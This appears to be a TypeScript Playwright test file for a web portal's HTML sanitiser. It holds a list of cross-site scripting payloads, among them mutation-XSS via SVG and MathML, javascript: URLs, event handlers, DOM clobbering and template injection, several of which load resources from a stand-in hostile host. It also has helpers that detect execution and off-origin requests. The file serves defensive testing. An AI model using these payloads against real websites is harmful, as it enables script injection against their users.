/**
 * Texts that try to run code. Each sets `window.hostile` or requests another server if it runs; with `watchHostile` both fail the
 * journey. There are texts for each class of the known lists.
 */
import type { BrowserContext, Page } from 'playwright-core';

const run = 'window.hostile=1';
const away = '//hostile.example/x';

/** A short one that fits into every field. */
export const attack = `<img src=x onerror=${run}>`;

export const hostile: readonly string[] = [
  // Scripts, whole, broken and nested
  `<script>${run}</script>`,
  `<ScRiPt src=${away}.js></sCrIpT>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `"><script>${run}</script>`,
  `</textarea></title></style><script>${run}</script>`,
  // Handlers
  `<img src=x onerror=${run}>`,
  `<img src="x"/onerror="${run}"/>`,
  `<p autofocus tabindex=1 onfocus=${run}>초점</p>`,
  `<details open ontoggle=${run}>열림</details>`,
  `<body onload=${run} onpageshow=${run}>`,
  `<video src=x onerror=${run}><source onerror=${run}></video>`,
  `<p style="animation:x" onanimationstart=${run} onclick=${run}>움직임</p>`,
  // Addresses that run
  `<a href="javascript:${run}">연결</a>`,
  `<a href=" \u0001java\tscr\nipt:${run}">연결</a>`,
  `<a href="&#106;avascript&colon;${run}">연결</a>`,
  `<a href="data:text/html,<script>${run}</script>">연결</a>`,
  `<form action="javascript:${run}"><button formaction="javascript:${run}">누름</button></form>`,
  `<iframe src="javascript:parent.hostile=1"></iframe><iframe srcdoc="<script>parent.hostile=1</script>"></iframe>`,
  `<object data="javascript:${run}"></object><embed src="javascript:${run}">`,
  // SVG, MathML and their integration points with HTML
  `<svg onload=${run}><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s><set attributeName=href to="javascript:${run}"/></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>연결</text></a><use href="${away}.svg#x"/></svg>`,
  `<svg><foreignObject><iframe onload=${run}></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${run} src>">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${run}></style></annotation-xml></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  `<xmp><p title="</xmp><img src=x onerror=${run}>"></xmp><listing>&lt;img onerror=${run} src=x&gt;</listing>`,
  `<template><img src=x onerror=${run}></template><template shadowrootmode=open><img src=x onerror=${run}></template>`,
  `<table><td><math><td><style></math><img src=x onerror=${run}></style>`,
  `<!--><img src=x onerror=${run}>--><!-- --!><img src=x onerror=${run}> -->`,
  `<![CDATA[><img src=x onerror=${run}>]]><?php ><img src=x onerror=${run}> ?>`,
  // Styles, DOM clobbering, and requests without scripts
  `<style>@import '${away}.css';*{background:url(${away}.png)}</style><p style="background:url(${away}.png)">x</p>`,
  `<link rel=stylesheet href=${away}.css><link rel=prefetch href=${away}><meta http-equiv=refresh content="0;url=${away}">`,
  `<base href="${away}/"><img srcset="${away}.png 1x" src="${away}.png"><input type=image src=${away}.png>`,
  `<form id=body name=attributes><input name=nodeName><input name=getElementById></form><img name=createElement>`,
  `<p id=__proto__ class=constructor slot=x is=x-y>속성</p>`,
  // Templates of frameworks, and invalid text
  `{{constructor.constructor('${run}')()}}\${${run}}<%= ${run} %>`,
  `' onmouseover='${run}' x="\u202e\u2066</p><b>굵게`,
];

/**
 * Violations of the policy that are expected while an unsanitised text is shown: styles and the base of
 * addresses, which are removed afterwards. None of them is a script.
 */
export const refusedInText = /^(?:Applying inline style violates|Setting the document's base URI to)/;

/** Fails the journey if code has run or a policy was violated, and records requests to other servers. */
export async function watchHostile(context: BrowserContext, portalUrl: string): Promise<() => string[]> {
  const elsewhere: string[] = [];
  const { origin } = new URL(portalUrl);
  context.on('request', (request) => {
    const url = new URL(request.url());
    if (url.origin !== origin && !['data:', 'blob:'].includes(url.protocol)) elsewhere.push(request.url());
  });
  context.on('dialog', (dialog) => {
    elsewhere.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  await context.addInitScript(() => {
    Object.defineProperty(window, 'hostile', {
      set: () => {
        reportError(new Error('something has run'));
      },
    });
    addEventListener('securitypolicyviolation', (event) => {
      if (!/^(?:style-src|base-uri)/.test(event.violatedDirective))
        reportError(new Error(`refused: ${event.violatedDirective} ${event.blockedURI} ${event.sample}`));
    });
  });
  return () => elsewhere;
}

/** Clicks and hovers over everything in a rich text that could react. */
export async function provoke(page: Page, selector: string): Promise<void> {
  await page.evaluate((place) => {
    for (const element of document.querySelectorAll(`${place} *`)) {
      for (const type of ['mouseover', 'pointerenter', 'focus'])
        element.dispatchEvent(new Event(type, { bubbles: true }));
      if (!(element instanceof HTMLElement)) continue;
      if (element.closest('a, button') === null) element.click();
      else if (element instanceof HTMLAnchorElement && !/^(?:https?|mailto|tel):/.test(element.href))
        element.click();
    }
  }, selector);
}

/** The parts of a stored text that a browser would run or load from other servers. */
export const executableIn = (page: Page, html: string): Promise<readonly string[]> =>
  page.evaluate((text) => {
    const allowed = new Set(
      (
        'P BR HR H2 H3 H4 BLOCKQUOTE PRE CODE UL OL LI STRONG B EM I U S SUB SUP MARK A IMG FIGURE FIGCAPTION ' +
        'TABLE THEAD TBODY TR TH TD CAPTION'
      ).split(' '),
    );
    const names = new Set(
      'href title src alt width height colspan rowspan scope start target rel'.split(' '),
    );
    const problems: string[] = [];
    for (const element of new DOMParser().parseFromString(text, 'text/html').body.querySelectorAll('*')) {
      if (!allowed.has(element.tagName) || element.namespaceURI !== 'http://www.w3.org/1999/xhtml')
        problems.push(`<${element.tagName}>`);
      for (const { name, value } of element.attributes) {
        if (!names.has(name)) problems.push(name);
        if (name === 'href' && !/^(?:https?:\/\/|mailto:|tel:)/i.test(value)) problems.push(`href ${value}`);
        if (name === 'src' && !value.startsWith('/view/imgView.do?filePath=/media/'))
          problems.push(`src ${value}`);
      }
    }
    return problems;
  }, html);
